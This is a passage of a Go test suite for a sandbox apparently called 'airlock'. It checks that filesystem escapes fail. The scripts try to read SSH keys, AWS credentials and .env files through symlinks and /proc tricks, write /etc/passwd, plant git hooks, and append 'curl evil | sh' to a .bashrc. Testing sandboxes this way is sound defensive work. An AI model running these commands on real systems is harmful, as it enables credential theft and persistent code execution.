package escape

// The filesystem half of the escape suite: deny-read masks in every
// spelling, writes outside the writable paths, the mandatory write
// protection of files the host later executes, hardlinks, leaked file
// descriptors, device nodes and mounts, the airlock binary itself, /sys, and
// the same core checks for an unprivileged invoker.

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// Fixture contents that the git checks compare against (see newFixture).
const (
	fsFixtureHEAD   = "ref: refs/heads/main\n"
	fsFixtureConfig = "[core]\n\tbare = false\n"
	fsFixtureHook   = "#!/bin/sh\n"
)

// fsPyAttempt is prepended to python bodies: attempt(label, fn) prints
// "label ok [result]" or "label errno=NAME", one line per attempt.
const fsPyAttempt = `
H = os.environ["HOME"]
def attempt(label, fn):
    try:
        r = fn()
    except OSError as e:
        print(label, "errno=" + errno.errorcode.get(e.errno, str(e.errno)), flush=True)
        return
    if isinstance(r, bytes):
        r = r.decode("utf-8", "replace").strip()
    print(label, "ok" if r is None else "ok " + str(r), flush=True)
def readfd(fd):
    try:
        return os.read(fd, 4096)
    finally:
        os.close(fd)
`

func fsPy(body string) string { return pyScript(fsPyAttempt + body) }

// fsStart starts argv like runCmd does, after mod has adjusted the
// command (extra files, credentials). The returned function waits for it.
func fsStart(t *testing.T, dir string, env []string, mod func(*exec.Cmd), argv ...string) func() result {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), runTimeout)
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	cmd.Dir = dir
	cmd.Env = env
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if mod != nil {
		mod(cmd)
	}
	if err := cmd.Start(); err != nil {
		cancel()
		t.Fatalf("start %v: %v", argv, err)
	}
	return func() result {
		t.Helper()
		defer cancel()
		err := cmd.Wait()
		if ctx.Err() != nil {
			t.Fatalf("%v: timed out after %v", argv, runTimeout)
		}
		return exitResult(t, argv, err, out.String(), errb.String())
	}
}

// fsRunArgv returns the argv of `bin run flags -- /bin/sh -c script`.
func fsRunArgv(bin string, flags []string, script string) []string {
	argv := append([]string{bin, "run"}, flags...)
	return append(argv, "--", "/bin/sh", "-c", script)
}

// fsFileHash returns the SHA-256 of a file's content, or "absent".
func fsFileHash(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if errors.Is(err, fs.ErrNotExist) {
		return "absent"
	}
	if err != nil {
		t.Fatalf("read %s: %v", p, err)
	}
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// fsMustBeAbsent fails if p exists on the host (as anything, even a dangling link).
func fsMustBeAbsent(t *testing.T, p string) {
	t.Helper()
	if _, err := os.Lstat(p); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("host path %s: got present (err %v), want absent", p, err)
	}
}

// fsMustFail fails unless the command exited non-zero.
func fsMustFail(t *testing.T, what string, r result) {
	t.Helper()
	if r.Code == 0 {
		t.Errorf("%s: got exit 0, want a failure\n%v", what, r)
	}
}

// fsMustSucceed fails unless the command exited zero.
func fsMustSucceed(t *testing.T, what string, r result) {
	t.Helper()
	if r.Code != 0 {
		t.Errorf("%s: got exit %d, want 0\n%v", what, r.Code, r)
	}
}

// fsMustDenyLine fails unless stderr holds the guard's explanation for path
// and rule, exactly "airlock: denied: SYSCALL PATH: RULE".
func fsMustDenyLine(t *testing.T, stderr, path, rule string) {
	t.Helper()
	for _, line := range strings.Split(stderr, "\n") {
		rest, ok := strings.CutPrefix(line, "airlock: denied: ")
		if !ok {
			continue
		}
		if _, tail, ok := strings.Cut(rest, " "); ok && tail == path+": "+rule {
			return
		}
	}
	t.Errorf("stderr: got %q, want a line \"airlock: denied: SYSCALL %s: %s\"", stderr, path, rule)
}

// fsPolicyFile writes a native policy that unprotects names and returns its
// path. It lives in the fixture home, outside the workspace, readable by
// every user (the unprivileged cases read it as uid 65534).
func fsPolicyFile(t *testing.T, f *fixture, unprotect ...string) string {
	t.Helper()
	var b strings.Builder
	b.WriteString("version: 1\nfilesystem:\n  unprotect:\n")
	for _, n := range unprotect {
		fmt.Fprintf(&b, "    - %s\n", strconv.Quote(n))
	}
	pf, err := os.CreateTemp(f.Home, "policy-*.yaml")
	if err != nil {
		t.Fatal(err)
	}
	defer pf.Close()
	if _, err := pf.WriteString(b.String()); err != nil {
		t.Fatal(err)
	}
	if err := pf.Chmod(0o644); err != nil {
		t.Fatal(err)
	}
	return pf.Name()
}

// fsWriteHost creates a file (and its parents) on the host.
func fsWriteHost(t *testing.T, p, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// fsExpand replaces $HOME and $WORK in a want string with the fixture's paths.
func fsExpand(f *fixture, s string) string {
	return strings.NewReplacer("$HOME", f.Home, "$WORK", f.Work).Replace(s)
}

// TestFSDenyRead tries to read masked secrets in every spelling. The control
// runs the same script with the one layer that should block it turned off:
// --profile none for the built-in masks, no --deny-read flag for custom ones.
// Reads have no side effect, so the host check is that the whole fixture
// home is unchanged (no placeholder or mount point left behind).
func TestFSDenyRead(t *testing.T) {
	requireRoot(t)
	const (
		nested = "NESTED-DOTENV-CANARY"
		deep   = "DEEP-DOTENV-CANARY"
		custom = "CUSTOM-DENY-CANARY"
		glob   = "CUSTOM-GLOB-CANARY"
	)
	none := []string{"--profile", "none"}
	pyCreat := func(p string) string {
		return fsPy(`attempt("creat", lambda: readfd(os.open(` + p + `, os.O_RDONLY | os.O_CREAT, 0o644)))`)
	}
	tests := []struct {
		name    string
		setup   func(t *testing.T, f *fixture)
		flags   []string // attack
		control []string // same script, the blocking layer off
		script  string
		wantErr string // in stderr ($HOME and $WORK expanded)
		wantOut string // in stdout
		canary  string // in the control's stdout, never in the attack's
	}{
		{name: "ssh key direct", control: none, script: `cat "$HOME/.ssh/id_rsa"`,
			wantErr: "cat: $HOME/.ssh/id_rsa: Permission denied", canary: secretSSH},
		{name: "aws credentials direct", control: none, script: `cat "$HOME/.aws/credentials"`,
			wantErr: "cat: $HOME/.aws/credentials: Permission denied", canary: secretAWS},
		{name: "netrc direct", control: none, script: `cat "$HOME/.netrc"`,
			wantErr: "cat: $HOME/.netrc: Permission denied", canary: "NETRC-CANARY"},
		{name: "ls masked dir", control: none, script: `ls -a "$HOME/.ssh"`,
			wantErr: "ls: cannot open directory '$HOME/.ssh': Permission denied", canary: "id_rsa"},
		{name: "workspace symlink into mask", control: none,
			setup: func(t *testing.T, f *fixture) {
				if err := os.Symlink(f.Home+"/.ssh/id_rsa", f.Work+"/key-link"); err != nil {
					t.Fatal(err)
				}
			},
			script: `cat key-link`, wantErr: "cat: key-link: Permission denied", canary: secretSSH},
		{name: "proc self root", control: none, script: `cat "/proc/self/root$HOME/.ssh/id_rsa"`,
			wantErr: "cat: /proc/self/root$HOME/.ssh/id_rsa: Permission denied", canary: secretSSH},
		{name: "proc self cwd", control: none, script: `cat /proc/self/cwd/../.ssh/id_rsa`,
			wantErr: "cat: /proc/self/cwd/../.ssh/id_rsa: Permission denied", canary: secretSSH},
		{name: "relative dotdot", control: none, script: `cat ../.ssh/id_rsa`,
			wantErr: "cat: ../.ssh/id_rsa: Permission denied", canary: secretSSH},
		{name: "double slash and dot", control: none, script: `cat "$HOME//.ssh/./id_rsa"`,
			wantErr: "cat: $HOME//.ssh/./id_rsa: Permission denied", canary: secretSSH},
		{name: "through workspace dotdot", control: none, script: `cat "$HOME/project/../.aws//./credentials"`,
			wantErr: "cat: $HOME/project/../.aws//./credentials: Permission denied", canary: secretAWS},
		// open(O_CREAT) of an existing file is performed by the supervisor's
		// create guard; it must not read through the mask either.
		{name: "O_CREAT open of masked key", control: none, script: pyCreat(`H + "/.ssh/id_rsa"`),
			wantOut: "creat errno=EACCES", canary: secretSSH},
		{name: "O_CREAT open of masked file", control: none, script: pyCreat(`H + "/.netrc"`),
			wantOut: "creat errno=EACCES", canary: "NETRC-CANARY"},
		{name: "O_CREAT open through workspace symlink", control: none,
			setup: func(t *testing.T, f *fixture) {
				if err := os.Symlink(f.Home+"/.aws/credentials", f.Work+"/creds-link"); err != nil {
					t.Fatal(err)
				}
			},
			script: pyCreat(`"creds-link"`), wantOut: "creat errno=EACCES", canary: secretAWS},
		{name: "dotenv at workspace root", control: none, script: `cat .env`,
			wantErr: "cat: .env: Permission denied", canary: secretEnv},
		{name: "dotenv glob nested", control: none,
			setup:  func(t *testing.T, f *fixture) { fsWriteHost(t, f.Work+"/sub/dir/.env.local", nested) },
			script: `cat sub/dir/.env.local`, wantErr: "cat: sub/dir/.env.local: Permission denied", canary: nested},
		{name: "dotenv glob depth 6", control: none,
			setup:  func(t *testing.T, f *fixture) { fsWriteHost(t, f.Work+"/a/b/c/d/e/f/.env.production", deep) },
			script: `cat a/b/c/d/e/f/.env.production`, wantErr: "cat: a/b/c/d/e/f/.env.production: Permission denied", canary: deep},
		{name: "custom deny-read file",
			setup:  func(t *testing.T, f *fixture) { fsWriteHost(t, f.Home+"/notes/private.txt", custom) },
			flags:  []string{"--deny-read", "~/notes/private.txt"},
			script: `cat "$HOME/notes/private.txt"`, wantErr: "cat: $HOME/notes/private.txt: Permission denied", canary: custom},
		{name: "custom deny-read dir",
			setup:  func(t *testing.T, f *fixture) { fsWriteHost(t, f.Home+"/notes/private.txt", custom) },
			flags:  []string{"--deny-read", "~/notes"},
			script: `cat "$HOME/notes/private.txt"`, wantErr: "cat: $HOME/notes/private.txt: Permission denied", canary: custom},
		{name: "custom deny-read base-name glob",
			setup:  func(t *testing.T, f *fixture) { fsWriteHost(t, f.Work+"/config/db.secret", glob) },
			flags:  []string{"--deny-read", "*.secret"},
			script: `cat config/db.secret`, wantErr: "cat: config/db.secret: Permission denied", canary: glob},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			if tc.setup != nil {
				tc.setup(t, f)
			}
			before := treeHash(t, f.Home)
			r := f.sandbox(t, tc.flags, tc.script)
			mustNotContain(t, "attack stdout", r.Stdout, tc.canary)
			if tc.wantErr != "" {
				fsMustFail(t, "attack", r)
				mustContain(t, "attack stderr", r.Stderr, fsExpand(f, tc.wantErr))
			}
			if tc.wantOut != "" {
				mustContain(t, "attack stdout", r.Stdout, tc.wantOut)
			}
			if after := treeHash(t, f.Home); after != before {
				t.Errorf("host home changed by a read: got tree %s, want %s", after, before)
			}
			c := f.sandbox(t, tc.control, tc.script)
			mustContain(t, "control stdout", c.Stdout, tc.canary)
		})
	}
}

// TestFSAllowRead checks the explicit overrides documented in the policy
// package: an --allow-read path under a masked directory is bound back in,
// and an --allow-read that names a deny_read entry exactly removes it (the
// way to drop a default). `airlock policy show` lists both lists unchanged,
// so the effective semantics are only visible by running. The control is the
// same run without --allow-read: the path is masked.
func TestFSAllowRead(t *testing.T) {
	requireRoot(t)
	const sshConfig = "SSH-CONFIG-CANARY"
	tests := []struct {
		name   string
		allow  string
		script string
		canary string // readable with the flag, masked without it
	}{
		{"path under masked dir", "~/.ssh/config", `cat "$HOME/.ssh/config"; cat "$HOME/.ssh/id_rsa"`, sshConfig},
		{"exact default file entry", "~/.netrc", `cat "$HOME/.netrc"; cat "$HOME/.ssh/id_rsa"`, "NETRC-CANARY"},
		{"exact default glob entry", ".env", `cat .env; cat "$HOME/.ssh/id_rsa"`, secretEnv},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			fsWriteHost(t, f.Home+"/.ssh/config", sshConfig+"\n")
			r := f.sandbox(t, []string{"--allow-read", tc.allow}, tc.script)
			mustContain(t, "allowed stdout", r.Stdout, tc.canary)
			// The override is narrow: the rest of ~/.ssh stays masked.
			mustNotContain(t, "allowed stdout", r.Stdout, secretSSH)
			mustContain(t, "allowed stderr", r.Stderr, fsExpand(f, "cat: $HOME/.ssh/id_rsa: "))
			c := f.sandbox(t, nil, tc.script)
			mustNotContain(t, "control stdout", c.Stdout, tc.canary)
			mustContain(t, "control stderr", c.Stderr, "Permission denied")
		})
	}
}

// TestFSDenyReadCreatedLater covers deny paths that do not exist when the
// sandbox starts and are created on the host while it runs. The script
// signals that it is running, waits (bounded) for the host's marker, then
// tries to read. The control is the same flow with --profile none.
func TestFSDenyReadCreatedLater(t *testing.T) {
	requireRoot(t)
	const canary = "LATE-CREDENTIAL-CANARY"
	// Signal readiness, then wait up to 10 s for the host.
	const waitForHost = `: > sandbox-ready; i=0; while [ ! -e host-marker ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done; [ -e host-marker ] || { echo marker-timeout; exit 3; }; `
	tests := []struct {
		name, rel string // secret, relative to the home
		attack    string
		wantErr   string
		wantOut   string
	}{
		{name: "kube config cat", rel: ".kube/config", attack: `cat "$HOME/.kube/config"`,
			wantErr: "cat: $HOME/.kube/config: Permission denied"},
		{name: "docker config cat", rel: ".docker/config.json", attack: `cat "$HOME/.docker/config.json"`,
			wantErr: "cat: $HOME/.docker/config.json: Permission denied"},
		// open(O_CREAT) of an existing file is done by the supervisor's
		// create guard, outside the sandbox's Landlock domain.
		{name: "kube config O_CREAT open", rel: ".kube/config",
			attack:  fsPy(`attempt("creat", lambda: readfd(os.open(H + "/.kube/config", os.O_RDONLY | os.O_CREAT, 0o644)))`),
			wantOut: "creat errno=EACCES"},
		{name: "docker config O_CREAT open", rel: ".docker/config.json",
			attack:  fsPy(`attempt("creat", lambda: readfd(os.open(H + "/.docker/config.json", os.O_RDONLY | os.O_CREAT, 0o644)))`),
			wantOut: "creat errno=EACCES"},
		// The same through an O_PATH descriptor reopened with O_CREAT.
		{name: "kube config O_PATH reopen", rel: ".kube/config",
			attack:  fsPy(`fd = os.open(H + "/.kube/config", os.O_PATH); attempt("reopen", lambda: readfd(os.open("/proc/self/fd/%d" % fd, os.O_RDONLY | os.O_CREAT, 0o644)))`),
			wantOut: "reopen errno=EACCES"},
	}
	run := func(t *testing.T, f *fixture, flags []string, rel, script string) result {
		t.Helper()
		os.Remove(f.Work + "/sandbox-ready")
		os.Remove(f.Work + "/host-marker")
		secret := filepath.Join(f.Home, rel)
		if err := os.RemoveAll(filepath.Join(f.Home, strings.Split(rel, "/")[0])); err != nil {
			t.Fatal(err)
		}
		wait := fsStart(t, f.Work, f.env(), nil, fsRunArgv(airlockBin, flags, script)...)
		deadline := time.Now().Add(20 * time.Second)
		for {
			if _, err := os.Stat(f.Work + "/sandbox-ready"); err == nil {
				break
			}
			if time.Now().After(deadline) {
				r := wait()
				t.Fatalf("sandbox never became ready: %v", r)
			}
			time.Sleep(20 * time.Millisecond)
		}
		fsWriteHost(t, secret, canary+"\n")
		fsWriteHost(t, f.Work+"/host-marker", "")
		r := wait()
		mustNotContain(t, "stdout", r.Stdout, "marker-timeout")
		return r
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			script := waitForHost + tc.attack
			r := run(t, f, nil, tc.rel, script)
			mustNotContain(t, "attack stdout", r.Stdout, canary)
			if tc.wantErr != "" {
				fsMustFail(t, "attack", r)
				mustContain(t, "attack stderr", r.Stderr, fsExpand(f, tc.wantErr))
			}
			if tc.wantOut != "" {
				mustContain(t, "attack stdout", r.Stdout, tc.wantOut)
			}
			if b, err := os.ReadFile(filepath.Join(f.Home, tc.rel)); err != nil || string(b) != canary+"\n" {
				t.Errorf("host secret %s: got %q, %v; want it unchanged", tc.rel, b, err)
			}
			c := run(t, f, []string{"--profile", "none"}, tc.rel, script)
			mustContain(t, "control stdout", c.Stdout, canary)
		})
	}
}

// TestFSWriteOutside writes outside the writable paths. Each control shows
// the write is possible on the host (for system files without changing them:
// `test -w` as root), and the host check shows nothing landed.
func TestFSWriteOutside(t *testing.T) {
	requireRoot(t)
	tests := []struct {
		name      string
		flags     []string
		script    string
		wantCode  int    // -1: any non-zero
		wantOut   string // in stdout
		wantErr   string // in stderr
		absent    []string
		unchanged []string // host files whose content must not change
		control   string   // run outside
		ctrlOut   string
	}{
		{name: "home", script: `echo x > "$HOME/escape-home"`, wantCode: -1,
			wantErr: "cannot create $HOME/escape-home: Read-only file system", absent: []string{"$HOME/escape-home"},
			control: `echo x > "$HOME/escape-home" && cat "$HOME/escape-home"`, ctrlOut: "x"},
		{name: "etc passwd", script: `echo x >> /etc/passwd`, wantCode: -1,
			wantErr: "cannot create /etc/passwd: Read-only file system", unchanged: []string{"/etc/passwd"},
			control: `test -w /etc/passwd && echo writable`, ctrlOut: "writable"},
		{name: "usr", script: `echo x > /usr/escape-$(basename "$HOME")`, wantCode: -1,
			wantErr: "Read-only file system", absent: []string{"/usr/escape-$BASE"},
			control: `test -w /usr && echo writable`, ctrlOut: "writable"},
		{name: "proc self root create",
			script:   fsPy(`attempt("create", lambda: os.open("/proc/self/root" + H + "/escape-proc", os.O_WRONLY | os.O_CREAT, 0o644))`),
			wantCode: 0, wantOut: "create errno=ENOENT", absent: []string{"$HOME/escape-proc"},
			control: fsPy(`attempt("create", lambda: os.close(os.open("/proc/self/root" + H + "/escape-proc", os.O_WRONLY | os.O_CREAT, 0o644)))`),
			ctrlOut: "create ok"},
		{name: "proc self root existing",
			script:   fsPy(`attempt("append", lambda: os.open("/proc/self/root/etc/passwd", os.O_WRONLY | os.O_APPEND))`),
			wantCode: 0, wantOut: "append errno=EROFS", unchanged: []string{"/etc/passwd"},
			control: fsPy(`print("access", os.access("/proc/self/root/etc/passwd", os.W_OK))`), ctrlOut: "access True"},
		{name: "host tmp stays private", script: `echo inside > /tmp/escape-$(basename "$HOME") && cat /tmp/escape-$(basename "$HOME")`,
			wantCode: 0, wantOut: "inside", absent: []string{"/tmp/escape-$BASE"},
			control: `echo inside > /tmp/escape-$(basename "$HOME") && cat /tmp/escape-$(basename "$HOME")`, ctrlOut: "inside"},
		{name: "allow-write sibling", flags: []string{"--allow-write", "$HOME/extra"},
			script: `echo x > "$HOME/sibling/f"`, wantCode: -1,
			wantErr: "cannot create $HOME/sibling/f: Read-only file system", absent: []string{"$HOME/sibling/f"},
			control: `echo x > "$HOME/sibling/f" && cat "$HOME/sibling/f"`, ctrlOut: "x"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			for _, d := range []string{"extra", "sibling"} {
				if err := os.Mkdir(f.Home+"/"+d, 0o777); err != nil {
					t.Fatal(err)
				}
			}
			exp := func(s string) string { return strings.ReplaceAll(fsExpand(f, s), "$BASE", filepath.Base(f.Home)) }
			var flags []string
			for _, fl := range tc.flags {
				flags = append(flags, exp(fl))
			}
			hashes := map[string]string{}
			for _, u := range tc.unchanged {
				hashes[u] = fsFileHash(t, u)
			}
			r := f.sandbox(t, flags, tc.script)
			switch {
			case tc.wantCode == -1:
				fsMustFail(t, "attack", r)
			case r.Code != tc.wantCode:
				t.Errorf("attack: got exit %d, want %d\n%v", r.Code, tc.wantCode, r)
			}
			mustContain(t, "attack stdout", r.Stdout, tc.wantOut)
			mustContain(t, "attack stderr", r.Stderr, exp(tc.wantErr))
			for _, a := range tc.absent {
				fsMustBeAbsent(t, exp(a))
			}
			for u, h := range hashes {
				if got := fsFileHash(t, u); got != h {
					t.Errorf("host %s: got hash %s, want unchanged %s", u, got, h)
				}
			}
			c := f.outside(t, tc.control)
			for _, a := range tc.absent {
				os.Remove(exp(a))
			}
			fsMustSucceed(t, "control", c)
			mustContain(t, "control stdout", c.Stdout, tc.ctrlOut)
		})
	}
}

// TestFSAllowWrite is the control for the write layer: an --allow-write
// directory outside the workspace is writable, and the write lands on the
// host. (Its sibling staying read-only is a row of TestFSWriteOutside.)
func TestFSAllowWrite(t *testing.T) {
	requireRoot(t)
	f := newFixture(t)
	if err := os.Mkdir(f.Home+"/extra", 0o777); err != nil {
		t.Fatal(err)
	}
	r := f.sandbox(t, []string{"--allow-write", f.Home + "/extra"}, `echo granted > "$HOME/extra/f" && cat "$HOME/extra/f"`)
	fsMustSucceed(t, "write to --allow-write dir", r)
	if b, err := os.ReadFile(f.Home + "/extra/f"); err != nil || string(b) != "granted\n" {
		t.Errorf("host %s/extra/f: got %q, %v; want \"granted\\n\"", f.Home, b, err)
	}
	c := f.sandbox(t, nil, `echo denied > "$HOME/extra/g"`)
	mustContain(t, "without --allow-write stderr", c.Stderr, "Read-only file system")
	fsMustBeAbsent(t, f.Home+"/extra/g")
}

// fsAllProtected is every protected name, for controls that switch the
// mandatory protection off.
var fsAllProtected = []string{".git/hooks", ".git/config", ".gitmodules", ".bashrc", ".bash_profile",
	".zshrc", ".zprofile", ".profile", ".envrc", ".vscode", ".idea", ".claude", ".codex", ".mcp.json"}

// TestFSProtectedExisting writes protected files that exist when the sandbox
// starts (read-only bind mounts). The control unprotects every name through
// a policy file, and the same writes succeed.
func TestFSProtectedExisting(t *testing.T) {
	requireRoot(t)
	tests := []struct {
		name   string
		setup  func(t *testing.T, f *fixture)
		script string
		want   string
	}{
		{name: "git config append", script: `echo '[core] hooksPath = /tmp' >> .git/config`,
			want: "cannot create .git/config: Read-only file system"},
		{name: "git hook overwrite", script: `echo evil > .git/hooks/sample`,
			want: "cannot create .git/hooks/sample: Read-only file system"},
		{name: "git hook new file", script: `echo evil > .git/hooks/pre-commit`,
			want: "cannot create .git/hooks/pre-commit: Read-only file system"},
		{name: "git hook via truncate", script: `truncate -s 0 .git/hooks/sample`,
			want: "Read-only file system"},
		{name: "nested repo hook at depth 5",
			setup:  func(t *testing.T, f *fixture) { fsWriteHost(t, f.Work+"/a/b/c/d/e/.git/hooks/sample", fsFixtureHook) },
			script: `echo evil > a/b/c/d/e/.git/hooks/post-checkout`,
			want:   "cannot create a/b/c/d/e/.git/hooks/post-checkout: Read-only file system"},
		{name: "bashrc at depth 5",
			setup:  func(t *testing.T, f *fixture) { fsWriteHost(t, f.Work+"/a/b/c/d/e/.bashrc", "# rc\n") },
			script: `echo 'curl evil | sh' >> a/b/c/d/e/.bashrc`,
			want:   "cannot create a/b/c/d/e/.bashrc: Read-only file system"},
		{name: "existing vscode dir",
			setup:  func(t *testing.T, f *fixture) { fsWriteHost(t, f.Work+"/.vscode/settings.json", "{}\n") },
			script: `echo '{"tasks": "evil"}' > .vscode/tasks.json`,
			want:   "cannot create .vscode/tasks.json: Read-only file system"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			if tc.setup != nil {
				tc.setup(t, f)
			}
			pol := fsPolicyFile(t, f, fsAllProtected...)
			before := treeHash(t, f.Work)
			r := f.sandbox(t, nil, tc.script)
			fsMustFail(t, "attack", r)
			mustContain(t, "attack stderr", r.Stderr, tc.want)
			if after := treeHash(t, f.Work); after != before {
				t.Errorf("host workspace: got tree %s, want unchanged %s", after, before)
			}
			c := f.sandbox(t, []string{"--policy", pol}, tc.script)
			fsMustSucceed(t, "control (all names unprotected)", c)
			if after := treeHash(t, f.Work); after == before {
				t.Errorf("control: host workspace unchanged, want the write to land")
			}
		})
	}
}

// TestFSProtectedCreate creates protected names that do not exist, at the
// workspace root and at depth 5 (deeper than sandbox-runtime's scan depth).
// The create guard refuses with EPERM and explains on stderr; the control
// unprotects the one name in a policy file.
func TestFSProtectedCreate(t *testing.T) {
	requireRoot(t)
	names := []struct{ name, create string }{
		{".vscode", `mkdir .vscode`},
		{".idea", `mkdir .idea`},
		{".claude", `mkdir -p .claude && echo '{}' > .claude/settings.json`},
		{".codex", `mkdir .codex`},
		{".mcp.json", `echo '{}' > .mcp.json`},
		{".bashrc", `echo evil > .bashrc`},
		{".envrc", `echo evil > .envrc`},
		{".gitmodules", `printf '[submodule "x"]\n' > .gitmodules`},
	}
	depths := []struct{ name, dir string }{{"root", ""}, {"depth 5", "a/b/c/d/e"}}
	for _, n := range names {
		for _, d := range depths {
			t.Run(n.name+" "+d.name, func(t *testing.T) {
				f := newFixture(t)
				script := n.create
				if d.dir != "" {
					script = "mkdir -p " + d.dir + " && cd " + d.dir + " && " + n.create
				}
				target := filepath.Join(f.Work, d.dir, n.name)
				r := f.sandbox(t, nil, script)
				fsMustFail(t, "attack", r)
				mustContain(t, "attack stderr", r.Stderr, "Operation not permitted")
				fsMustDenyLine(t, r.Stderr, target, "protected "+n.name)
				fsMustBeAbsent(t, target)

				c := f.sandbox(t, []string{"--policy", fsPolicyFile(t, f, n.name)}, script)
				fsMustSucceed(t, "control (unprotected)", c)
				if _, err := os.Lstat(target); err != nil {
					t.Errorf("control: host %s: got %v, want it created", target, err)
				}
			})
		}
	}
}

// fsGitTampering lists what a git on the host would pick up that the sandbox
// was not allowed to make: a .git that is not a real directory, and in any
// git directory (a .git, or the fixture's own wherever it was moved, known
// by its HEAD) a hooks entry other than the fixture's sample, a hooks
// directory where there was none, or a changed config.
func fsGitTampering(t *testing.T, work string, hadHooks bool) []string {
	t.Helper()
	var bad []string
	err := filepath.WalkDir(work, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.Name() == ".git" && !d.IsDir() {
			bad = append(bad, p+" is not a directory")
			return nil
		}
		if !d.IsDir() {
			return nil
		}
		head, _ := os.ReadFile(filepath.Join(p, "HEAD"))
		if d.Name() != ".git" && string(head) != fsFixtureHEAD {
			return nil
		}
		hooks := filepath.Join(p, "hooks")
		ents, err := os.ReadDir(hooks)
		switch {
		case errors.Is(err, fs.ErrNotExist):
		case err != nil:
			bad = append(bad, fmt.Sprintf("%s: %v", hooks, err))
		case !hadHooks:
			bad = append(bad, hooks+" was created")
		}
		for _, e := range ents {
			b, _ := os.ReadFile(filepath.Join(hooks, e.Name()))
			if e.Name() != "sample" || string(b) != fsFixtureHook {
				bad = append(bad, fmt.Sprintf("hook %s/%s (%q)", hooks, e.Name(), b))
			}
		}
		if fi, err := os.Lstat(filepath.Join(p, "config")); err == nil {
			b, _ := os.ReadFile(filepath.Join(p, "config"))
			if !fi.Mode().IsRegular() || string(b) != fsFixtureConfig {
				bad = append(bad, fmt.Sprintf("config %s/config changed (%v, %q)", p, fi.Mode(), b))
			}
		}
		return nil
	})
	if err != nil {
		t.Fatalf("walk %s: %v", work, err)
	}
	return bad
}

// TestFSProtectedGitTricks tries to get a hook or a config to git on the
// host by renaming, aliasing and linking instead of writing the name. The
// host check is that no git directory gained a hook or lost its protection
// (fsGitTampering), and for the rows that would move the host's own hooks or
// config away, that they are still in place. The control switches the
// protection off (unprotect .git/hooks and .git/config) or runs outside.
func TestFSProtectedGitTricks(t *testing.T) {
	requireRoot(t)
	exchange := fsPy(`
import ctypes
z = ctypes.create_string_buffer(b"z"); g = ctypes.create_string_buffer(b".git")
# renameat2(AT_FDCWD, "z", AT_FDCWD, ".git", RENAME_EXCHANGE); 316 on x86_64
ret, e = sc(316, -100, ctypes.addressof(z), -100, ctypes.addressof(g), 2)
report(ret, e)
`)
	tests := []struct {
		name     string
		noHooks  bool   // fixture variant without .git/hooks
		script   string // run in the workspace
		wantErr  string // in stderr ($WORK expanded)
		wantOut  string // in stdout
		denyPath string // guard explanation expected for this path ...
		denyRule string // ... and rule
		keep     []string
		outside  bool // control runs outside instead of unprotected
	}{
		{name: "rename parent then write hook", script: `mv .git x && echo evil > x/hooks/pre-commit`,
			wantErr: "cannot create x/hooks/pre-commit: Read-only file system"},
		{name: "rename parent then mkdir hooks", script: `mv .git x && mkdir -p .git/hooks`,
			wantErr: "Operation not permitted", denyPath: "$WORK/.git/hooks", denyRule: "protected .git/hooks"},
		{name: "rename parent then write config", script: `mv .git x && mkdir .git && echo '[core]' > .git/config`,
			wantErr: "Operation not permitted", denyPath: "$WORK/.git/config", denyRule: "protected .git/config"},
		{name: "rename dir with hooks to git",
			script:  `mv .git orig && mkdir -p z/hooks && echo evil > z/hooks/pre-commit && mv z .git`,
			wantErr: "Operation not permitted", denyPath: "$WORK/.git", denyRule: "protected .git/hooks"},
		{name: "rename dir with config to git",
			script:  `mv .git orig && mkdir z && printf '[core]\n\thooksPath = /tmp\n' > z/config && mv z .git`,
			wantErr: "Operation not permitted", denyPath: "$WORK/.git", denyRule: "protected .git/config"},
		{name: "rename new dir onto hooks",
			script:  `mkdir newh && echo evil > newh/pre-commit; rm -rf .git/hooks; mv -T newh .git/hooks`,
			wantErr: "Operation not permitted", denyPath: "$WORK/.git/hooks", denyRule: "protected .git/hooks"},
		{name: "rename new file onto config",
			script:  `printf '[core]\n\thooksPath = /tmp\n' > c && mv c .git/config`,
			wantErr: "Operation not permitted", denyPath: "$WORK/.git/config", denyRule: "protected .git/config"},
		{name: "exchange dir with hooks and git", script: `mkdir -p z/hooks && echo evil > z/hooks/pre-commit && ` + exchange,
			wantOut: "errno=EPERM", denyPath: "$WORK/.git", denyRule: "protected .git/hooks"},
		{name: "git as a file", script: `mv .git orig && echo "gitdir: $PWD/orig" > .git`,
			wantErr: "Operation not permitted", denyPath: "$WORK/.git", denyRule: "protected .git (only a directory may be created)"},
		{name: "git as a symlink", script: `mv .git orig && ln -s orig .git`,
			wantErr: "Operation not permitted", denyPath: "$WORK/.git", denyRule: "protected .git (only a directory may be created)"},
		{name: "symlink renamed to git", script: `mv .git orig && ln -s orig g && mv -T g .git`,
			wantErr: "Operation not permitted", denyPath: "$WORK/.git", denyRule: "protected .git (only a directory may be created)"},
		// The explanation names the path as the command spelled it; the
		// rule is decided on the real parent (.git).
		{name: "symlink alias mkdir hooks", noHooks: true, script: `ln -s .git g && mkdir g/hooks`,
			wantErr: "Operation not permitted", denyPath: "$WORK/g/hooks", denyRule: "protected .git/hooks"},
		{name: "symlink alias hook via rename", noHooks: true,
			script:  `ln -s .git g && mkdir h && echo evil > h/pre-commit && mv h g/hooks`,
